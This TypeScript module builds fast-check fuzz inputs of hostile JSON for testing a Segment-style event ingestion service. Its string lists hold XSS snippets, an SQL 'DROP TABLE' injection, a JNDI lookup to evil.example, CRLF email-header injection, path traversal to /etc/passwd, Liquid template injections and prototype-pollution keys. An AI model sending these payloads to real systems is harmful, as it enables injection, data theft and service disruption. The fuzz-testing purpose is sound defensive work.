// Hostile JSON for the fuzz suite: raw JSON text (duplicate and `__proto__` keys survive) and fast-check arbitraries.
import fc from 'fast-check';

/**
 * JSON as a tree of raw pieces, so the text can carry what JSON.stringify never writes: own `__proto__` keys,
 * duplicate keys, numbers like 1e999 or -0.
 */
export type RawJson =
  | { readonly kind: 'object'; readonly entries: ReadonlyArray<readonly [string, RawJson]> }
  | { readonly kind: 'array'; readonly items: readonly RawJson[] }
  | { readonly kind: 'literal'; readonly text: string };

export function rawText(value: RawJson): string {
  switch (value.kind) {
    case 'literal':
      return value.text;
    case 'array':
      return `[${value.items.map(rawText).join(',')}]`;
    case 'object':
      return `{${value.entries.map(([key, item]) => `${JSON.stringify(key)}:${rawText(item)}`).join(',')}}`;
  }
}

export const literal = (value: unknown): RawJson => ({ kind: 'literal', text: JSON.stringify(value) });
export const object = (entries: ReadonlyArray<readonly [string, RawJson]>): RawJson => ({
  kind: 'object',
  entries,
});
export const array = (items: readonly RawJson[]): RawJson => ({ kind: 'array', items });

/** Keys that reach an object's prototype when some code assigns them. */
export const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype'] as const;

/** A field that, if it ever came back on a response or a stored item, would prove pollution worked. */
export const POLLUTION_MARKER = 'nurtureFuzzPolluted';

export const CRLF_EMAIL = 'eve@example.com\r\nBcc: x@evil.example';
export const CRLF_NAME = 'Eve\r\nBcc: x@evil.example\r\nX-Injected: yes';
export const LIQUID_INJECTIONS = [
  "{{ 'x' | append: 'pwned' }}",
  "{% include 'secrets' %}",
  "{% render '../../etc/passwd' %}",
  '{{ secrets }}',
  '{{ profile.email | upcase }}',
  '{% for i in (1..100000000) %}x{% endfor %}',
  '{{ "constructor" | split: "" }}',
] as const;

/** Strings nobody sends by accident. Each stays under the 32 KiB event limit unless it is meant to exceed it. */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'nul\u0000inside',
  '\r\n',
  CRLF_EMAIL,
  CRLF_NAME,
  '\u0007\u0008\u001b[31mred\u001b[0m',
  '\u2028\u2029',
  '\u202eevil\u202c',
  '\ufeff',
  '\ud800',
  '\udfff\ud800',
  '😀'.repeat(50),
  'a'.repeat(257),
  'x'.repeat(40_000),
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE profiles; --",
  `\${jndi:ldap://evil.example/a}`,
  '../../../../etc/passwd',
  '%00%0d%0a',
  '__proto__',
  'constructor',
  'PROFILE#victim',
  'IDENTITY#user#victim',
  ...LIQUID_INJECTIONS,
];

const hostileString = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
);

const hostileNumberText = fc.constantFrom(
  '0',
  '-0',
  '1e999',
  '-1e999',
  '1.7976931348623157e308',
  '5e-324',
  '9007199254740993',
  '-1',
  '1.5',
  '1700000000000',
  '99999999999999999999999',
);

const hostileLiteral: fc.Arbitrary<RawJson> = fc.oneof(
  hostileString.map((text) => literal(text)),
  hostileNumberText.map((text): RawJson => ({ kind: 'literal', text })),
  fc.constantFrom<RawJson>(literal(true), literal(false), literal(null)),
);

const hostileKey = fc.oneof(
  { weight: 2, arbitrary: fc.constantFrom(...PROTOTYPE_KEYS) },
  { weight: 1, arbitrary: fc.constantFrom('email', 'name', 'writeKey', 'enrichment', 'traits', '') },
  { weight: 2, arbitrary: hostileString },
);

/** Any JSON value, with hostile keys and values at every depth. */
export const hostileValue: fc.Arbitrary<RawJson> = fc.letrec<{ value: RawJson }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileLiteral,
    fc.array(tie('value'), { maxLength: 4 }).map(array),
    fc.array(fc.tuple(hostileKey, tie('value')), { maxLength: 4 }).map(object),
  ),
})).value;

/** `__proto__` (and friends) carrying the pollution marker, so a successful pollution would be visible later. */
export const polluting: fc.Arbitrary<readonly [string, RawJson]> = fc
  .constantFrom(...PROTOTYPE_KEYS)
  .map((key) => [key, object([[POLLUTION_MARKER, literal(true)]])] as const);

const EVENT_FIELDS = [
  'type',
  'messageId',
  'userId',
  'anonymousId',
  'event',
  'name',
  'groupId',
  'previousId',
  'timestamp',
  'originalTimestamp',
  'sentAt',
  'traits',
  'properties',
  'context',
  'writeKey',
  'integrations',
] as const;

/**
 * A Segment event where every field may be of the wrong type or hostile; most runs still carry an id so that
 * some events get far enough to be stored.
 */
export const hostileEvent: fc.Arbitrary<RawJson> = fc
  .record({
    userId: fc.option(
      fc.oneof(
        fc.uuid().map((id) => literal(`fuzz-${id}`)),
        hostileValue,
      ),
      { nil: undefined },
    ),
    fields: fc.array(fc.tuple(fc.constantFrom(...EVENT_FIELDS), hostileValue), { maxLength: 6 }),
    pollution: fc.array(polluting, { maxLength: 2 }),
    type: fc.option(fc.constantFrom('identify', 'track', 'page', 'screen', 'group', 'alias', 'nope'), {
      nil: undefined,
    }),
  })
  .map(({ userId, fields, pollution, type }) =>
    object([
      ...(type === undefined ? [] : [['type', literal(type)] as const]),
      ...(userId === undefined ? [] : [['userId', userId] as const]),
      ['event', literal('Fuzzed')],
      ...fields,
      ...pollution,
      ['traits', object([...pollution, ['plan', literal('fuzz')]])],
    ]),
  );

/** Ways a body goes wrong after it was written: cut short, garbage spliced in, wrong top-level shape. */
export const mangledText = (text: string): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 4, arbitrary: fc.constant(text) },
    { weight: 1, arbitrary: fc.nat({ max: Math.max(0, text.length - 1) }).map((at) => text.slice(0, at)) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(
          fc.nat({ max: text.length }),
          fc.constantFrom('\u0000', '}', '{', '"', ',', ']', '\\', '\ud800'),
        )
        .map(([at, junk]) => `${text.slice(0, at)}${junk}${text.slice(at)}`),
    },
  );
